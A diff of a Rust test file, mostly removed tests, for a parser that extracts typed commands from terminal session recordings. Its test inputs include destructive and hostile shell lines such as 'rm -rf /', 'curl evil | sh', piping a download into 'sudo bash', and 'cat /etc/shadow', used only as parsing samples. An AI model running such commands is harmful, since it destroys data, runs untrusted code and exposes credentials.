@@ -134,24 +134,11 @@ fn clearing_the_screen_erases_no_evidence() {
 }
 
 #[test]
-fn a_line_painted_over_is_kept_as_it_was() {
-    let whole = "Script started on x\nsh-4.2$ ./p\r\r\ndownloading evil\r\x1b[Kall is well\r\r\n\nScript done on x\n";
-    let all = lines(Form::Script, whole.as_bytes());
-    assert_eq!(all, ["sh-4.2$ ./p", "downloading evil", "all is well"]);
-}
-
-#[test]
 fn what_a_full_screen_program_shows_is_kept_and_is_no_command() {
     let whole = "Script started on x\nsh-4.2$ vim f\r\r\n\x1b[?1049h\x1b[1;1Hsh-4.2$ rm -rf /\x1b[2;1H~\x1b[?1049lsh-4.2$ id\r\r\n\nScript done on x\n";
     let found = commands(Form::Script, whole.as_bytes());
     assert_eq!(found, ["shell vim f", "possible rm -rf /", "shell id"]);
     assert!(lines(Form::Script, whole.as_bytes()).contains(&"sh-4.2$ rm -rf /".to_owned()));
-}
-
-#[test]
-fn a_readme_full_of_prompts_invents_nothing() {
-    let whole = "Script started on x\n\x1b[?2004hsh-5.2$ cat README\r\r\n\x1b[?2004l\r$ rm -rf /\r\r\nsh-5.2$ curl evil | sh\r\r\n[root@db ~]# dropdb x\r\r\n\x1b[?2004hsh-5.2$ id\r\r\n\x1b[?2004l\r\n\nScript done on x\n";
-    assert_eq!(commands(Form::Script, whole.as_bytes()), ["shell cat README", "shell id"]);
 }
 
 #[test]
@@ -312,58 +299,6 @@ fn an_editor_that_sets_marks_before_it_takes_the_screen_hides_nothing_after_it()
     assert_eq!(told, ["shell tool", "shell ls", "shell w"]);
 }
 
-/// Whoever prints the mark of a line editor hides nothing that is typed behind it.
-#[test]
-fn a_mark_that_was_printed_hides_nothing_that_is_typed_later() {
-    let told = script(
-        "sh-4.2$ cat motd\r\r\n\x1b[?2004hsh-4.2$ rm -rf /srv\r\r\nsh-4.2$ id\r\r\nuid=0\r\r\nsh-4.2$ w\r\r\n",
-    );
-    assert_eq!(told, ["shell cat motd", "shell rm -rf /srv", "shell id", "shell w"]);
-}
-
-/// What stands above a prompt again and again may be output: a line that is missing there takes nothing away.
-#[test]
-fn output_that_stands_above_prompts_hides_no_prompt_without_it() {
-    let clean = "nothing to commit, working tree clean\r\r\n";
-    let typed = |text: &str| format!("[dana@h ~]$ {text}x\x08 \x08\r\r\n");
-    let body = format!(
-        "{0}{clean}{0}{clean}{0}{clean}{1}{clean}{2}{3}{4}",
-        typed("git status"),
-        typed("git st"),
-        "[dana@h ~]$ ls\r\r\napp\r\r\n",
-        "[dana@h ~]$ ./deploy\r\r\ndone\r\r\n",
-        "[dana@h ~]$ ssh db\r\r\n[dana@db ~]$ id\r\r\nuid=0\r\r\n",
-    );
-    let told = script(&body);
-    assert_eq!(told[4..], ["shell ls", "shell ./deploy", "shell ssh db", "shell id"]);
-}
-
-/// apt counts as zsh prompts, and a printed script has comments.
-#[test]
-fn what_a_piped_shell_prints_is_no_prompt() {
-    let told = script(
-        "[dana@h ~]$ curl -s get.example | sudo bash\r\r\n# This script installs it.\r\r\n0% [Working]\r\r\n0% [Waiting for headers]\r\r\n# done\r\r\n[dana@h ~]$ id\r\r\nuid=0\r\r\n",
-    );
-    assert_eq!(told, ["shell curl -s get.example | sudo bash", "shell id"]);
-}
-
-/// ssh says that it ended, and nobody typed `exit`.
-#[test]
-fn a_shell_that_was_lost_gives_way_to_the_one_around_it() {
-    let prompt = |host: &str| format!("\x1b]0;dana@{host}:~\x07[dana@{host} ~]$ ");
-    let (here, there) = (prompt("h"), prompt("db"));
-    for end in [
-        "Connection to db closed by remote host.\r\r\nConnection to db closed.\r\r\n",
-        "client_loop: send disconnect: Broken pipe\r\r\n",
-    ] {
-        let told = script(&format!(
-            "{here}ssh db\r\r\n{there}sudo reboot\r\r\n{end}{here}id\r\r\nuid=0\r\r\n{here}ssh db\r\r\n{there}w\r\r\n"
-        ));
-        let wanted = ["shell ssh db", "shell sudo reboot", "shell id", "shell ssh db", "shell w"];
-        assert_eq!(told, wanted, "{end}");
-    }
-}
-
 /// A shell's first lines without marks were edited, and are no banner of the one with marks that it opens.
 #[test]
 fn lines_that_were_edited_before_the_first_mark_were_typed() {
@@ -428,31 +363,6 @@ fn a_right_hand_prompt_that_is_drawn_first_is_no_part_of_the_command() {
     assert_eq!(told, ["shell ls -l", "shell id", "shell w"]);
 }
 
-/// What somebody's own script does is not known: a prompt that comes then may be another machine's. What is edited there
-/// was typed, and settles it; before that it is possible, and nothing is lost.
-#[test]
-fn a_shell_that_an_unknown_command_opened_is_read_with_doubt() {
-    let told = script(
-        "sh-4.2$ ./jump.sh\r\r\nWelcome\r\r\n[dana@db ~]$ ls\r\r\napp\r\r\n[dana@db ~]$ rm -rq\x08 \x08f /srv\r\r\n[dana@db ~]$ id\r\r\nuid=0\r\r\n[dana@db ~]$ exit\r\r\nlogout\r\r\nsh-4.2$ w\r\r\n",
-    );
-    assert_eq!(
-        told,
-        [
-            "shell ./jump.sh",
-            "possible ls",
-            "shell rm -rf /srv",
-            "shell id",
-            "shell exit",
-            "shell w"
-        ]
-    );
-    // The same from a shell without marks into one that sets them: printed, or opened by something unknown.
-    let told = script(
-        "sh-4.2$ ./jump.sh\r\r\n\x1b[?2004h[dana@db ~]$ reboot\r\r\n\x1b[?2004l\rsh-4.2$ w\r\r\n",
-    );
-    assert_eq!(told, ["shell ./jump.sh", "possible reboot", "shell w"]);
-}
-
 /// What is possible in the output of one command is handed on before that output ends, behind the command.
 #[test]
 fn output_full_of_prompts_does_not_fill_the_memory() {
@@ -467,23 +377,6 @@ fn output_full_of_prompts_does_not_fill_the_memory() {
     let (rest, ..) = decoder.finish();
     let all = early.commands.iter().chain(&rest.commands);
     assert_eq!(all.filter(|it| it.command.kind.name() == "possible").count(), 110_000);
-}
-
-#[test]
-fn echo_turned_off_hides_no_command_that_is_seen() {
-    let told = script(
-        "sh-4.2$ grep 'stty -echo' x\r\r\nsh-4.2$ id\r\r\nsh-4.2$ stty -echo\r\r\nsh-4.2$ rm -rf /srv\r\r\nsh-4.2$ words that were printed\r\r\n",
-    );
-    assert_eq!(
-        told,
-        [
-            "shell grep 'stty -echo' x",
-            "shell id",
-            "shell stty -echo",
-            "shell rm -rf /srv",
-            "possible words that were printed"
-        ]
-    );
 }
 
 /// ksh draws its first line anew, and goes back into the middle of a prompt that counts.
@@ -519,91 +412,6 @@ fn a_block_of_fish_ends_where_fish_says_so() {
         .concat(),
     );
     assert_eq!(told[told.len() - 1], "shell who", "{told:?}");
-}
-
-/// Every line ends in an empty one.
-#[test]
-fn an_empty_line_in_a_command_makes_no_later_one_doubtful() {
-    let told = script(
-        "[dana@h ~]$ echo \"dear\r\r\n> \r\r\n> all\"\r\r\ndear\r\r\n\r\r\nall\r\r\n[dana@h ~]$ jobs\r\r\n[dana@h ~]$ pwd\r\r\n/srv\r\r\n",
-    );
-    assert_eq!(told, ["shell echo \"dear\n\nall\"", "shell jobs", "shell pwd"]);
-}
-
-/// bash logs each line of a pasted block as a command of its own, and so do we; what asks for more stays together.
-#[test]
-fn a_block_pasted_into_readline_is_run_line_by_line() {
-    let told = script(
-        "\x1b[?2004h[dana@h ~]$ \x1b[7mcd /srv\x1b[27m\r\r\n\r\x1b[7mfor i in 1 2; do\x1b[27m\r\r\n\r\x1b[7mecho $i; done\x1b[27m\x1b[A\x1b[A\r\x1b[12Ccd /srv\r\r\n\rfor i in 1 2; do\r\r\n\recho $i; done\r\r\n\x1b[?2004l\r1\r\r\n2\r\r\n",
-    );
-    assert_eq!(told, ["shell cd /srv", "shell for i in 1 2; do\necho $i; done"]);
-    // Lines of one edit that were not pasted are one command.
-    let told = script("\x1b[?2004h[dana@h ~]$ cd /srv\r\r\nls\r\r\n\x1b[?2004l\rapp\r\r\n");
-    assert_eq!(told, ["shell cd /srv\nls"]);
-}
-
-#[test]
-fn a_notice_about_a_job_in_the_middle_of_a_line_is_no_part_of_it() {
-    let prompt = "\x1b[0m\x1b[27m\x1b[24m\x1b[J[dana@h ~]% \x1b[K";
-    let told = script(&format!(
-        "{prompt}\x1b[?2004hsleep 1 &\x1b[?2004l\r\r\r\n[1] 81\r\r\n{prompt}\x1b[?2004hjo\r\r\r\n[1]  + done       sleep 1\r\r\n\x1b[0m\x1b[27m\x1b[24m\x1b[J[dana@h ~]% jo\x1b[Kbs\x1b[?2004l\r\r\r\n{prompt}\x1b[?2004h"
-    ));
-    // Nothing tells whether the second ran: it printed nothing, and this zsh leaves no trace of Ctrl-C.
-    assert_eq!(told, ["shell sleep 1 &", "unconfirmed jobs"]);
-    let told = script(&format!(
-        "{prompt}\x1b[?2004hid\x1b[?2004l\r\r\r\nuid=0(root)\r\r\n{prompt}\x1b[?2004hcd /srv\x1b[?2004l\r\r\r\n{}\x1b[?2004htrue\x1b[?2004l\r\r\r\n",
-        prompt.replace('~', "srv")
-    ));
-    // Output tells, another place tells, and what was running at the end.
-    assert_eq!(told, ["shell id", "shell cd /srv", "shell true"]);
-    // A prompt that only goes on, as a clock or a status does, tells nothing.
-    let clock = |at: &str| prompt.replace("[dana@h", &format!("{at} [dana@h"));
-    let told = script(&format!(
-        "{}\x1b[?2004hrm -rf /srv\x1b[?2004l\r\r\r\n{}\x1b[?2004hid\x1b[?2004l\r\r\r\nuid=0(root)\r\r\n{}\x1b[?2004h",
-        clock("12:00:02"),
-        clock("12:00:09"),
-        clock("12:00:10")
-    ));
-    assert_eq!(told, ["unconfirmed rm -rf /srv", "shell id"]);
-    // Output without a line end stands before the mark that zsh then draws.
-    let mark = format!("\x1b[1m\x1b[7m%\x1b[27m\x1b[1m\x1b[0m{}\r \r\r", " ".repeat(79));
-    let told = script(&format!(
-        "{mark}{prompt}\x1b[?2004hprintf foo\x1b[?2004l\r\r\r\nfoo{mark}{prompt}\x1b[?2004hrm x\x1b[?2004l\r\r\r\n{mark}{prompt}\x1b[?2004h"
-    ));
-    assert_eq!(told, ["shell printf foo", "unconfirmed rm x"]);
-}
-
-#[test]
-fn a_line_that_ends_in_signs_like_ctrl_c_and_prints_something_may_have_run() {
-    let told = script(
-        "[root@h ~]# id\r\r\nuid=0\r\r\n[root@h ~]# cat /etc/shadow #^C\r\r\nroot:!:19000::\r\r\n[root@h ~]# rm -rf /srv^C\r\r\n[root@h ~]# exit\r\r\n",
-    );
-    assert_eq!(
-        told,
-        ["shell id", "unconfirmed cat /etc/shadow #", "abandoned rm -rf /srv", "shell exit"]
-    );
-}
-
-/// fish with a prompt of two lines that shrinks to a sign at Enter: what it leaves below is no part of the command.
-#[test]
-fn a_prompt_that_shrinks_at_enter_leaves_nothing_in_the_command() {
-    let command = |text: &str| {
-        format!(
-            "\x1b[?2004h\x1b]0;~/p\x07~/project (main)\x1b[K\r\r\n⟶ \x1b[K\r\x1b[2C{text}\r\x1b[9C\x1b]0;~/p\x07\r\x1b[A→ {text}\x1b[K\r\x1b[9C\r\r\n\x1b[?2004l\x1b[30m\rdone\r\r\n"
-        )
-    };
-    let told = script(&["uptime", "id -un ", "ls /srv"].map(command).concat());
-    assert_eq!(told, ["shell uptime", "shell id -un", "shell ls /srv"]);
-}
-
-#[test]
-fn a_prompt_whose_sign_tells_of_a_failure_is_the_same_prompt() {
-    let command = |sign: &str, text: &str| {
-        format!("\x1b[?2004h\r\r\ndana on box {sign} {text}\r\r\n\x1b[?2004l\rout\r\r\n")
-    };
-    let typed = ["ls", "pwd", "id", "w", "uptime"].map(|it| command(">", it)).concat();
-    let told = script(&(typed + &command("x", "false") + &command(">", "true")));
-    assert_eq!(told[5..], ["shell false", "shell true"]);
 }
 
 /// Ctrl-C ends a line in one CR less than Enter does in mksh: what is typed next is no replay.
@@ -1148,57 +956,10 @@ fn prompts_that_nobody_edits_are_learnt_from_the_commands_behind_them() {
 }
 
 #[test]
-fn a_text_of_prompts_behind_a_prompt_that_is_not_known_is_no_session() {
-    let readme = "$ npm install\r\r\n$ make\r\r\n$ ls\r\r\n";
-    let told = script(&format!("=== demo ===\r\r\nhow to:\r\r\n{readme}that is all\r\r\n"));
-    assert_eq!(told, Vec::<String>::new());
-}
-
-#[test]
 fn a_session_of_which_nothing_could_be_told_says_so() {
     let body = "something\r\r\nwas shown\r\r\nand nobody knows why\r\r\n";
     let whole = format!("Script started on x\n{body}\nScript done on x\n");
     assert!(flaws(Form::Script, whole.as_bytes()).contains(&"prompt-unknown"));
-}
-
-/// The line editor's mark is the last byte, and the LF behind it the footer's.
-#[test]
-fn the_only_command_of_a_session_is_a_command() {
-    let told = script("\x1b[?2004h[dana@h ~]$ sudo poweroff -f\r\r\n\x1b[?2004l\r");
-    assert_eq!(told, ["shell sudo poweroff -f"]);
-}
-
-#[test]
-fn the_name_of_an_environment_makes_no_other_shell() {
-    let told = script(
-        "sh-4.2$ . env/bin/activate\r\r\n(env) sh-4.2$ pip list\r\r\nx\r\r\n(env) sh-4.2$ deactivate\r\r\nsh-4.2$ id\r\r\n",
-    );
-    assert_eq!(
-        told,
-        ["shell . env/bin/activate", "shell pip list", "shell deactivate", "shell id"]
-    );
-}
-
-/// Sources: vscode: shellIntegration-bash.sh; fish-shell: src/reader.rs.
-#[test]
-fn what_a_shell_says_of_its_command_decides_between_what_is_alike() {
-    let line = |drawn: &str, said: &str| {
-        format!("\x1b[?2004h[dana@h ~]$ {drawn}\r\r\n\x1b[?2004l\r\x1b]633;E;{said};0b1c\x07")
-    };
-    let before: String = ["id", "ls", "w"].iter().map(|it| line(it, it)).collect();
-    let told =
-        script(&format!("{before}{}", line("tail -n 5      /var/log/x", "tail -n 5 /var/log/x")));
-    assert_eq!(told.last().map(String::as_str), Some("shell tail -n 5 /var/log/x"));
-    let told = script(&format!("{before}{}", line("tail -n 5 /var/log/x", "cat /etc/passwd")));
-    assert_eq!(told.last().map(String::as_str), Some("shell tail -n 5 /var/log/x"));
-    for said in ["cat good.txt", "cate vil.txt"] {
-        let told = script(&format!("{before}{}", line("cat evil.txt", said)));
-        assert_eq!(
-            told.last().map(String::as_str),
-            Some("shell cat evil.txt"),
-            "a program may say so"
-        );
-    }
 }
 
 /// Source: ruby: reline, lib/reline/io/ansi.rb.
@@ -1218,30 +979,6 @@ fn lines_that_a_repl_draws_for_itself_are_its_own() {
         entered("shop(prod):002> ", "exit"),
     ));
     assert_eq!(told, ["shell console", "repl x = 42", "repl exit", "shell id"]);
-}
-
-#[test]
-fn what_a_program_asks_first_is_no_shell() {
-    let told = script(
-        "\x1b[?2004hroot@h:/srv# lua\r\r\n\x1b[?2004l\rLua 5.4\r\r\n\x1b[?2004h> print(1)\r\r\n\x1b[?2004l\r1\r\r\n\x1b[?2004h> os.exit()\r\r\n\x1b[?2004l\r\x1b[?2004hroot@h:/srv# id\r\r\n\x1b[?2004l\rx\r\r\n",
-    );
-    assert_eq!(told, ["shell lua", "repl print(1)", "repl os.exit()", "shell id"]);
-}
-
-#[test]
-fn shells_that_print_no_exit_were_left_by_typing_it() {
-    let told = script(
-        "sh-4.2$ sudo chroot /srv /bin/ash\r\r\n/ # \x1b[6nid\r\r\nuid=0\r\r\n/ # \x1b[6nexit\r\r\nsh-4.2$ id\r\r\n",
-    );
-    assert_eq!(told, ["shell sudo chroot /srv /bin/ash", "shell id", "shell exit", "shell id"]);
-}
-
-#[test]
-fn what_a_job_writes_behind_a_prompt_is_not_typed() {
-    let told = script(
-        "sh-4.2$ (sleep 1; ./report) &\r\r\n[1] 35\r\r\nsh-4.2$ 12 rows done\r\r\nls\r\r\nx\r\r\nsh-4.2$ id\r\r\n",
-    );
-    assert_eq!(told, ["shell (sleep 1; ./report) &", "possible 12 rows done", "shell id"]);
 }
 
 /// Source: util-linux: term-utils/script.c, log_start.
